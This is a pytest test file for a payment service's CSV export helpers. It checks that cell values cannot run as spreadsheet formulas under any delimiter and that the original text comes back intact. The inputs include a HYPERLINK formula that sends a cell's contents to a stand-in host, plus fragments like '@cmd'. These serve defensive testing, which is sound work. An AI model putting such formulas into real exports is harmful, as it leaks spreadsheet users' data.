"""CSV files: whatever stands in a cell, no spreadsheet computes it, at whichever sign it parts the lines."""

import csv
import io

import pytest

from payment_service.spreadsheets import cell, value_of

FORMULA = '=HYPERLINK("https://example.kz?"&A1,1)'


@pytest.mark.parametrize("parted_at", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        f"refused;{FORMULA}",
        f'refused;"{FORMULA}";"=1+1"',
        "a;;@cmd",
        "a\t-1",
        f'"{FORMULA}',
        "'=1",
        "''+1;'-1",
        f"refused\n{FORMULA}\r\n-1\r@a",
    ],
)
def test_no_part_of_a_cell_is_a_formula_and_the_text_comes_back(text: str, parted_at: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([1, cell(text), cell(text)])
    lines = csv.reader(out.getvalue().splitlines(keepends=True), delimiter=parted_at)
    cells = [part for line in lines for cell in line for part in cell.splitlines()]
    assert not [one for one in cells if one.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert value_of(str(cell(text))) == text


@pytest.mark.parametrize("text", ["роза; тюльпан", "a - b", "5;7", "x=1", "it's", ""])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text == value_of(text)
